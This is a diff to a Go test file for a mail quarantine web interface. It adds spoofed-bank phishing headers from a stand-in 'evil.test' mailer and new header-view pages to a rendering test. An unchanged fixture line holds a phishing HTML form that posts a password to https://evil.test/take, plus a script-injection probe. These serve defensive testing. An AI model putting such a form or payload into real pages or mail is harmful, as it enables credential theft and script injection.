@@ -24,6 +24,11 @@ const richMail = "From: \"Your Bank\" <help@bank.example>\nTo: ann@test.example\
 	"<form action=https://evil.test/take>Password <input name=p><script>alert(1)</script></form>\n--a--\n" +
 	"--m\nContent-Type: application/pdf; name=\"invoice.pdf\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--m--\n"
 
+// wroteHere is what a server of ours writes on top of a message.
+const wroteHere = "Return-Path: <bounce@mailer.evil.test>\r\nReceived: from mailer.evil.test ([192.0.2.9]) by HOST with ESMTPS (TLS1.3) id x; Fri, 20 Nov 2026 06:00:00 +0000\r\n" +
+	"Authentication-Results: HOST; spf=pass smtp.mailfrom=bounce@mailer.evil.test; dmarc=fail header.from=bank.example\r\n" +
+	"X-Gatepost-Id: tx1\r\nX-Spam-Flag: YES\r\nX-Spam-Score: 9.5\r\nX-Spam-Status: Yes, score=9.5 required=7.5 tests=rdns: 2, keywords: spam\r\n"
+
 // furnish holds what pages are looked at with.
 func (n *pagesNode) furnish() (id string) {
 	n.t.Helper()
@@ -50,6 +55,7 @@ func (n *pagesNode) furnish() (id string) {
 	}
 	h := n.held("ann@test.example", richMail, func(h *quarantine.Held) {
 		h.Subject, h.Author, h.Sender, h.Proof = "Your account will be closed", "Your Bank <help@bank.example>", "bounce@mailer.evil.test", ""
+		h.View.Prefix = []byte(strings.ReplaceAll(wroteHere, "HOST", n.hostnames.own))
 	})
 	n.entry(directory.Allow, "friend@far.example", "ann@test.example")
 	n.entry(directory.Block, ".spam.example", "ann@test.example")
@@ -101,7 +107,7 @@ func TestQuarantineLooks(t *testing.T) {
 			}
 			for page, path := range map[string]string{
 				"list": "/quarantine", "search": "/quarantine?state=any&sender=nobody&text=x", "none": "/quarantine?text=nothing+like+it", "message": "/quarantine/" + id,
-				"source": "/quarantine/" + id + "/source", "lists": "/lists", "import": "/lists/import", "filters": "/quarantine/filters",
+				"source": "/quarantine/" + id + "/source", "headers": "/quarantine/" + id + "/headers", "paste": "/headers", "lists": "/lists", "import": "/lists/import", "filters": "/quarantine/filters",
 			} {
 				if page == "filters" && o.who != "olga" || o.Size.Phone && page != "list" && page != "message" && page != "lists" {
 					continue
